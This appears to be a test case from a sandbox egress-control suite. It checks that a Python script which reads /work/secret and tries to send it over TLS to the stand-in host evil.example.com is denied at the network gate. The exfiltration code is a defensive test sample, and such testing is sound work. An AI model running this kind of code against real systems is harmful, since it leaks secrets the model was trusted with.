# id: NT-18.exfil-tls   class: EXFIL
# expect-phase: succeeded   expect-audit: egress_denied host=evil.example.com port=443 proto=tcp
import socket, ssl
secret = open("/work/secret").read()
context = ssl.create_default_context()  # slow, and the gate doesn't wait long
raw = socket.create_connection(("evil.example.com", 443), 20)
try:
    context.wrap_socket(raw, server_hostname="evil.example.com").sendall(secret.encode())
    raise SystemExit("a handshake came about")
except ssl.SSLError as e:
    print("refused:", e.reason)
